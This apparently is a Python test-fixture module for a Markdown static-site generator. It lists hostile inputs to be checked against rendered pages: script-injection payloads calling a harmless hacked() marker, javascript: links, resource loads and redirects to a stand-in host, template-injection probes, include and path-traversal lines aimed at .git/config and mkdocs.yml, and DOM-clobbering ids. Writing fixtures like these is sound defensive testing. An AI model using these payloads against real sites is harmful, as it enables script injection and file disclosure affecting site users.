"""Hostile content: texts that try to run `hacked()`, to load from elsewhere, or to take over the page.

All kinds of `findings` on a stock site are here: raw HTML, attribute lists, blocks of Markdown extensions,
front matter, file names, links, includes, and ids that clobber.
"""

ELSEWHERE = "https://hyokkays.example"
"""A host that no page may ask for anything."""

TEXTS = (
    "<script>hacked()</script>",
    f"<script src={ELSEWHERE}/x.js></script>",
    "</title><script>hacked()</script>",
    "</script><script>hacked()</script><!--",
    "<img src=x onerror=hacked()>",
    f"<img src={ELSEWHERE}/x.png srcset={ELSEWHERE}/y.png>",
    "<svg onload=hacked()><animate onbegin=hacked() attributeName=x></svg>",
    "<svg><script>hacked()</script></svg>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<iframe src=javascript:parent.hacked()></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked()>",
    "<noscript><p title='</noscript><img src=x onerror=hacked()>'>",
    "--><script>hacked()</script><!--",
    "]]><script>hacked()</script>",
    "<img src=x onerror=hacked() ",
    "<a href=javascript:hacked()>linkki</a>",
    "<details open ontoggle=hacked()>x</details>",
    "<input autofocus onfocus=hacked()>",
    "<video src=x onerror=hacked()></video><audio src=x onerror=hacked()></audio>",
    "<body onload=hacked()>",
    "<object data=javascript:hacked()></object><embed src=javascript:hacked()>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css><style>@import '{ELSEWHERE}/y.css'</style>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    f"<form action={ELSEWHERE}><button autofocus formaction=javascript:hacked()>Lähetä</button></form>",
    "<p style=animation-name:x onanimationstart=hacked()>x</p>",
    '" onmouseover="hacked()" x="',
    "' onmouseover='hacked()' x='",
    '"><img src=x onerror=hacked()>',
    "'><img src=x onerror=hacked()>",
    "`><img src=x onerror=hacked()>",
    "javascript:hacked()",
    "&lt;script&gt;hacked()&lt;/script&gt;",
    "&#60;img src=x onerror=hacked()&#62;",
    "{{ config }}{% include 'main.html' %}{{ ''.__class__.__mro__ }}",
    "[[slot:body]][[slot:title]]",
    "${hacked()} #{hacked()} <%= hacked() %>",
    "\\u003cimg src=x onerror=hacked()\\u003e",
)
"""For every place that takes words."""

_MARKDOWN_LINKS = (
    "[linkki](javascript:hacked())",
    "[linkki](JaVaScRiPt:hacked())",
    "[linkki](java&#115;cript:hacked())",
    "[linkki](&#1;javascript:hacked())",
    "[linkki](<java\tscript:hacked()>)",
    "[linkki](vbscript:hacked())",
    "[linkki](data:text/html,<script>parent.hacked()</script>)",
    "[linkki](//hyokkays.example/x)",
    '[linkki](https://example.org/" onmouseover="hacked())',
    "<javascript:hacked()>",
    "[linkki][viite]\n\n[viite]: javascript:hacked()",
    f"![kuva]({ELSEWHERE}/x.png)",
    "![kuva](javascript:hacked())",
    '![kuva](x" onerror="hacked())',
    '![" onerror="hacked()](x.png)',
    "![kuva](//hyokkays.example/x.png)",
    f"[![kuva]({ELSEWHERE}/x.png)](javascript:hacked())",
)
_ATTRIBUTE_LISTS = (
    '# Otsikko {: onclick="hacked()" }',
    'Kappale\n{: onmouseover="hacked()" style="position:fixed" }',
    '[linkki](x){: href="javascript:hacked()" }',
    '![kuva](x.png){: onerror="hacked()" }',
    "Kappale\n{: #__config }",
    "## Otsikko {: #__search }",
    "## Otsikko {: #sisalto }",
)
_BLOCKS = (
    '!!! note "<img src=x onerror=hacked()>"\n    <script>hacked()</script>',
    '??? note "<img src=x onerror=hacked()>"\n    <img src=x onerror=hacked()>',
    '=== "<img src=x onerror=hacked()>"\n    <img src=x onerror=hacked()>',
    "Sana[^1].\n\n[^1]: <img src=x onerror=hacked()>",
    "| <img src=x onerror=hacked()> | b |\n|---|:-:|\n| <svg onload=hacked()> | [x](javascript:hacked()) |",
    "<div markdown>\n<script>hacked()</script>\n</div>",
    "*[HTML]: <img src=x onerror=hacked()>\n\nHTML",
    "Termi\n:   <img src=x onerror=hacked()>",
    "- [ ] <img src=x onerror=hacked()>",
    "```html\n</code></pre><script>hacked()</script>\n```",
    "`</code><script>hacked()</script>`",
    '--8<-- ".git/config"\n--8<-- "mkdocs.yml"',
    '; --8<-- "../mkdocs.yml"',
    "<!-- <script> -->hacked()<!-- </script> -->",
    '<div><p>auki <b title="',
)
_CLOBBERING = (
    '<div id="__config">{"base": "https://hyokkays.example"}</div>',
    "<form name=body id=sisalto><input name=children></form>",
    '<a id="hacked" name="location"></a><img name="cookie"><iframe name="document"></iframe>',
    '<main id="sisalto" data-component="search">x</main>',
    '<script type="application/json" id="strings">{"a": "<img src=x onerror=hacked()>"}</script>',
    '<div data-component="share" data-strings="{}">x</div>',
    "## Sisältö",
)
MARKDOWN = (*TEXTS, *_MARKDOWN_LINKS, *_ATTRIBUTE_LISTS, *_BLOCKS, *_CLOBBERING)
"""For every place that takes Markdown."""

FRONT_MATTER = (
    'title: "<script>hacked()</script>"',
    "title: '\"><img src=x onerror=hacked()>'",
    'title: "</title><script>hacked()</script>"',
    "description: '\"><img src=x onerror=hacked()>'",
    'author: "<script>hacked()</script>"',
    "authors: ['<script>hacked()</script>']",
    "tags: ['<img src=x onerror=hacked()>', '\"><script>hacked()</script>']",
    "template: redirect.html\nlocation: javascript:hacked()",
    "template: ../../../../mkdocs.yml",
    "kind: '\"><script>hacked()</script>'",
    "head: <script>hacked()</script>",
    "breadcrumbs: <script>hacked()</script>",
    'subtitle: "<img src=x onerror=hacked()>"',
    'status: "\\"><img src=x onerror=hacked()>"',
    'icon: "../../../mkdocs.yml"',
    "hide: ['<script>hacked()</script>']",
    "search: {boost: '<script>hacked()</script>'}",
    "slug: ../../karkuteilla",
)
"""For hand-written pages."""

FILE_NAMES = (
    "<img src=x onerror=hacked()>.md",
    '" onmouseover="hacked()" x=".md',
    "'><script>hacked()<.md",
    "javascript:hacked().md",
    "&lt;img src=x onerror=hacked()&gt;.md",
)
"""For hand-written pages; no name can hold a slash."""
